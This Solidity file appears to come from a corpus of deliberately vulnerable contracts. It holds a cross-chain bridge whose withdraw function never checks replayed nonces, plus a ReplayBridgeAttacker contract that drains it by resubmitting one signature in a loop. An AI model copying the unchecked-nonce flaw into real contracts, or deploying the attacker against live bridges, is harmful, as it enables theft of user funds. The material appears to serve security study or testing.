// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
import {MessageHashUtils} from "@openzeppelin/contracts/utils/cryptography/MessageHashUtils.sol";

/// @title ReplayBridgeUSD
/// @notice The token the bridge carries ("Bridged USD", bUSD).
contract ReplayBridgeUSD is ERC20, Ownable {
    constructor(address initialOwner) ERC20("Bridged USD", "bUSD") Ownable(initialOwner) {}

    function mint(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }
}

/// @title ReplayBridge
/// @notice This chain's end of a lock-and-release bridge. `bridgeOut` locks
///         bUSD to be released on the other chain; `withdraw` releases bUSD
///         here for a transfer made on the other chain, authorised by the
///         bridge's off-chain signer (a signature over bridge, recipient,
///         amount and the other chain's transfer nonce).
/// @dev VULNERABILITY (deliberate, corpus scenario "signature-replay"):
///      `withdraw` records the nonce in `processed` but never checks it, so a
///      valid signature can be submitted again and again (Nomad's "every
///      message is proven", Multichain, TCH: replayed authorisations).
contract ReplayBridge is Ownable {
    using SafeERC20 for IERC20;

    IERC20 public immutable token;
    address public signer;
    uint256 public feeBps;
    uint256 public outboundNonce;
    mapping(uint256 nonce => bool) public processed;

    event BridgeOut(
        address indexed sender, address indexed recipient, uint256 amount, uint256 fee, uint256 destChainId, uint256 nonce
    );
    event Withdrawal(address indexed to, uint256 amount, uint256 indexed nonce);
    event SignerChanged(address indexed previousSigner, address indexed newSigner);
    event FeeChanged(uint256 previousBps, uint256 newBps);

    error InvalidSignature(address recovered);
    error ZeroAmount();
    error FeeTooHigh(uint256 bps);

    constructor(IERC20 token_, address signer_, address initialOwner) Ownable(initialOwner) {
        token = token_;
        signer = signer_;
        emit SignerChanged(address(0), signer_);
    }

    /// @notice Locks `amount` bUSD (less the fee) for `recipient` on `destChainId`.
    function bridgeOut(uint256 amount, address recipient, uint256 destChainId) external {
        if (amount == 0) revert ZeroAmount();
        uint256 fee = amount * feeBps / 10_000;
        token.safeTransferFrom(msg.sender, address(this), amount);
        emit BridgeOut(msg.sender, recipient, amount - fee, fee, destChainId, outboundNonce++);
    }

    /// @notice Releases `amount` bUSD to `to` for the other chain's transfer `nonce`.
    function withdraw(address to, uint256 amount, uint256 nonce, bytes calldata signature) external {
        bytes32 digest = MessageHashUtils.toEthSignedMessageHash(withdrawalHash(to, amount, nonce));
        address recovered = ECDSA.recover(digest, signature);
        if (recovered != signer) revert InvalidSignature(recovered);
        // The flaw: marked, never checked.
        processed[nonce] = true;
        token.safeTransfer(to, amount);
        emit Withdrawal(to, amount, nonce);
    }

    /// @notice What the signer signs (as an EIP-191 personal message).
    function withdrawalHash(address to, uint256 amount, uint256 nonce) public view returns (bytes32) {
        return keccak256(abi.encode(address(this), to, amount, nonce));
    }

    function setSigner(address newSigner) external onlyOwner {
        emit SignerChanged(signer, newSigner);
        signer = newSigner;
    }

    function setFee(uint256 bps) external onlyOwner {
        if (bps > 100) revert FeeTooHigh(bps);
        emit FeeChanged(feeBps, bps);
        feeBps = bps;
    }
}

/// @title ReplayBridgeAttacker
/// @notice Submits one valid withdrawal signature `times` times in one
///         transaction; the bridge pays the signed recipient (the attacker)
///         each time.
contract ReplayBridgeAttacker {
    address public immutable owner;

    error NotOwner(address caller);

    constructor() {
        owner = msg.sender;
    }

    function replay(ReplayBridge bridge, address to, uint256 amount, uint256 nonce, bytes calldata sig, uint256 times)
        external
    {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        for (uint256 i = 0; i < times; i++) {
            bridge.withdraw(to, amount, nonce, sig);
        }
    }
}
